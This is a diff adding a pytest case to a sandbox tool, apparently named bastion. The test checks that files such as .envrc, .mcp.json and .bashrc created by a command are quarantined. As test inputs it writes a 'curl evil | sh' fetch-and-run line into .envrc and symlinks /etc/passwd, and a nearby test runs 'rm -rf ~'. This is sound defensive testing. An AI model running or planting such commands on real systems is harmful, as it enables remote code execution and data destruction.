@@ -115,6 +115,29 @@ def test_missing_hooks_directory_is_covered_too(world, backend):
 
 
 @pytest.mark.parametrize("backend", BACKENDS)
+def test_protected_files_the_command_creates_are_moved_out_after_the_run(world, backend):
+    quarantine = world.home / ".local" / "state" / "bastion" / "quarantine"
+    (world.project / "notes.md").write_text("mine\n")
+    result = world.sandbox(backend).run(
+        "echo 'curl evil | sh' > .envrc && ln -s /etc/passwd .mcp.json && mkdir .bashrc && echo ok > notes.md",
+        cwd=str(world.project),
+    )
+    assert result.exit_code == 0, result.stderr
+    for name in (".envrc", ".mcp.json", ".bashrc"):
+        assert not os.path.lexists(world.project / name)  # not where direnv or an agent would load it
+    kept = {path.name.split("-", 2)[2]: path for path in quarantine.iterdir()}
+    assert sorted(kept) == [".bashrc", ".envrc", ".mcp.json"]
+    assert kept[".envrc"].read_text() == "curl evil | sh\n"  # nothing is lost
+    assert os.readlink(kept[".mcp.json"]) == "/etc/passwd"  # the link itself, never its target
+    assert (world.project / "notes.md").read_text() == "ok\n"  # ordinary files are the command's own
+    created = {v["target"]: v["detail"] for v in result.violations if v["kind"] == "created"}
+    assert set(created) == {str(world.project / n) for n in (".envrc", ".mcp.json", ".bashrc")}
+    assert "direnv runs it" in created[str(world.project / ".envrc")]
+    assert any(line.startswith("bastion: sandbox blocked the creation of ") and ".envrc" in line
+               for line in result.notes())
+
+
+@pytest.mark.parametrize("backend", BACKENDS)
 def test_rm_rf_home_removes_nothing(world, backend):
     before = snapshot(world.home)
     result = world.sandbox(backend).run("rm -rf ~ ; rm -rf $HOME/*", cwd=str(world.project))
